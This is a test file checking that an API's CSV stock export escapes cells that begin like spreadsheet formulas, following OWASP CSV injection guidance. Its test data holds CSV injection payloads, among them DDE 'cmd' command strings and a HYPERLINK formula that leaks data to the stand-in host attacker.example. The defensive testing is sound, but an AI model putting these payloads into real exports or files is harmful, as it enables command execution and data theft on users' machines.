import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/test-app.js';

/** A cell a spreadsheet would run as a formula (OWASP, "CSV Injection": = + - @ tab and carriage return). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A number written as a number, which the OWASP guidance lets through unchanged. */
const PLAIN_NUMBER = /^-?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

/** Every CSV download the API offers; a new one fails the route-table check below until it is tested here. */
const CSV_DOWNLOADS = ['/api/stock/export.csv'];

const HOSTILE = [
  { package: '+cmd|\' /C calc\'!A0', note: '=HYPERLINK("http://attacker.example/?leak","click")' },
  { package: '@SUM(1+1)', note: '-2+3+cmd|\' /C notepad\'!A0' },
  { package: '-', note: '\t=1+1' },
  { package: '=1', note: '\r=1+1' },
  { package: 'ok', note: '@@' },
];

describe('CSV downloads never carry a formula', () => {
  let t: TestApp;
  beforeAll(async () => { t = await createTestApp(); });
  afterAll(async () => { await t.close(); });

  it('tests every CSV download the route table lists', () => {
    const csvRoutes = t.routeTable.filter((r) => r.method === 'GET' && /\.csv$/.test(r.path)).map((r) => r.path);
    expect(csvRoutes.sort()).toEqual([...CSV_DOWNLOADS].sort());
  });

  it('escapes stock text that starts like a formula, keeps it readable, and leaves numbers as numbers', async () => {
    const designer = await t.signIn('designer@example.test', 'tallyvolt-designer');
    for (const [i, text] of HOSTILE.entries()) {
      const res = await designer.post('/api/stock').send({ ohms: 1000 * (i + 1), tolerancePct: 1, quantity: 5 + i, ...text });
      expect(res.status).toBe(201);
    }
    const res = await designer.get(CSV_DOWNLOADS[0]);
    expect(res.status).toBe(200);
    const rows = Papa.parse<string[]>(res.text, { skipEmptyLines: true }).data;
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const cell of rows.flat()) {
      if (FORMULA_START.test(cell)) expect(cell, `cell ${JSON.stringify(cell)}`).toMatch(PLAIN_NUMBER);
    }
    const [header, ...body] = rows;
    const at = (name: string) => header.indexOf(name);
    for (const [i, text] of HOSTILE.entries()) {
      const row = body[i];
      // OWASP CSV Injection: a leading single quote makes the cell text; the rest is kept as written
      expect(row[at('package')]).toBe(FORMULA_START.test(text.package) ? `'${text.package}` : text.package);
      expect(row[at('note')]).toBe(FORMULA_START.test(text.note) ? `'${text.note}` : text.note);
      expect(row[at('quantity')]).toBe(String(5 + i)); // written as a number, not escaped
    }
  });

  it('quotes every escaped cell, so a separator or quote inside it cannot start a new cell', async () => {
    const designer = await t.signIn('designer@example.test', 'tallyvolt-designer');
    const res = await designer.get(CSV_DOWNLOADS[0]);
    const lines = res.text.split(/\r\n(?=\d)/);
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)[=+\-@]/);
    expect(res.text).toContain('"\'=HYPERLINK(""http://attacker.example/?leak"",""click"")"');
  });
});
